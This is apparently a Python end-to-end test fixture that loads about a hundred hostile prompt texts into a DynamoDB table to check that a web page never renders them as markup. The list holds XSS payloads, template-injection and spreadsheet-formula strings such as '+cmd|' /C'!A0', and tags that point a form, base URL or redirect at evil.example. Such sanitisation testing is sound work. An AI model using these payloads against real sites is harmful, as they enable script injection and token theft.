"""A hundred texts that hurt a page which takes words for markup, or for more than a line of words.

Whatever runs sets `window.hurt`.
"""

from dataclasses import replace
from datetime import timedelta

from filmgate.adapters import items
from filmgate.domain.generations import Generation, GenerationState
from local.clients import client_for
from tests.e2e.gateway import Studio

LARGEST_BATCH = 25  # of DynamoDB's
_BASE32 = str.maketrans("0189", "abcd")  # the digits that our ids do not have


_MARKUP = (
    "<script>window.hurt=1</script>",
    "<img src=x onerror=window.hurt=1>",
    "<svg onload=window.hurt=1>",
    "<svg><script>window.hurt=1</script></svg>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'>",
    "<details open ontoggle=window.hurt=1>",
    "<body onload=window.hurt=1>",
    "<a href=javascript:window.hurt=1 id=x autofocus onfocus=window.hurt=1>x</a>",
    "<math><mtext><img src=x onerror=window.hurt=1></mtext></math>",
    "<template><img src=x onerror=window.hurt=1></template>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=token>",
    "<object data=javascript:window.hurt=1>",
    "<video><source onerror=window.hurt=1></video>",
    "<!--<img src=--><img src=x onerror=window.hurt=1>",
    "</textarea><script>window.hurt=1</script>",
)
_TEMPLATES = (
    "${window.hurt=1}", "{{constructor.constructor('window.hurt=1')()}}", "#{7*7}", "<%= 7*7 %>",
    "{%raw%}", "`;window.hurt=1;`", "';window.hurt=1;//", '";window.hurt=1;//', "\\u003cscript>",
    "%3Cscript%3E", "&lt;b&gt;", "&#60;img src=x onerror=window.hurt=1&#62;", "=1+1",
    "+cmd|' /C'!A0", "@SUM(1)", "-2+3", "javascript:window.hurt=1",
    "data:text/html,<script>window.hurt=1</script>", "__proto__", "constructor",
)  # fmt: skip
_SCRIPTS = (
    "\u202egnp.elif\u202c the other way", "\u2066isolated\u2069 and\u2067 not",
    "\u200f\u200e marks", "مصباح على الرصيف في الساعة الزرقاء",
    "פנס על הרציף", "شہر a mixed ציר line 123",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319 stacked", "👩‍👩‍👧‍👦🏳️‍🌈 families",
    "zero\u200bwidth\u200djoined", "漢字仮名交じり文" * 20, "ﷺ" * 40, "tab\tand\u00a0space",
    "line\nbreak\r\nand more", "\u2028separators\u2029", "nul-like \u2400", "a" * 3000,
    "word " * 900, "W" * 400, "…" * 300, "\ufeffbom",
)  # fmt: skip
HOSTILE = (
    *_MARKUP,
    *_TEMPLATES,
    *_SCRIPTS,
    *(f"A lamp {text}" for text in _MARKUP),
    *(f"{text} at night" for text in _TEMPLATES),
)


def shelve(studio: Studio) -> None:
    """Let a studio have a cancelled generation of every hostile text, the last of them newest.

    One is made and cancelled; the others are copies of it in the table. A hundred workflows would
    say no more about a page.
    """
    sent = studio.api.post(
        "/v1/generations", {"type": "image", "prompt": "plain", "provider": "midjourney"}
    )
    studio.api.call("DELETE", f"/v1/generations/{sent['id']}")
    studio.end_of(sent)
    (row,) = (one for one in studio.rows() if one["sk"] == items.GENERATION)
    # A cancel may come too late on a busy machine; on the shelf all are cancelled ones.
    model = replace(items.load(Generation, row), state=GenerationState.CANCELLED)
    client = client_for("dynamodb", studio.gateway.stack.aws_endpoint)
    table = studio.gateway.stack.outputs["TableName"]
    copies = [_copy(model, place, text) for place, text in enumerate(HOSTILE, start=1)]
    copies.append({**row, **items.dump(model)})
    for start in range(0, len(copies), LARGEST_BATCH):
        puts = [
            {"PutRequest": {"Item": items.to_wire(item)}}
            for item in copies[start : start + LARGEST_BATCH]
        ]
        left = client.batch_write_item(RequestItems={table: puts})["UnprocessedItems"]
        assert not left


def _copy(model: Generation, place: int, text: str) -> items.Item:
    generation = replace(
        model,
        id=f"{model.id[:-3]}{f'{place:03d}'.translate(_BASE32)}",
        wish=replace(model.wish, prompt=text),
        project=text[:60],
        created_at=model.created_at + timedelta(seconds=place),
        actual_micros=0,
        provider=None,
    )
    return {
        "pk": items.generation_pk(model.tenant, generation.id),
        "sk": items.GENERATION,
        **items.list_keys(model.tenant, items.GENERATIONS, generation.created_at, generation.id),
        **items.dump(generation),
    }
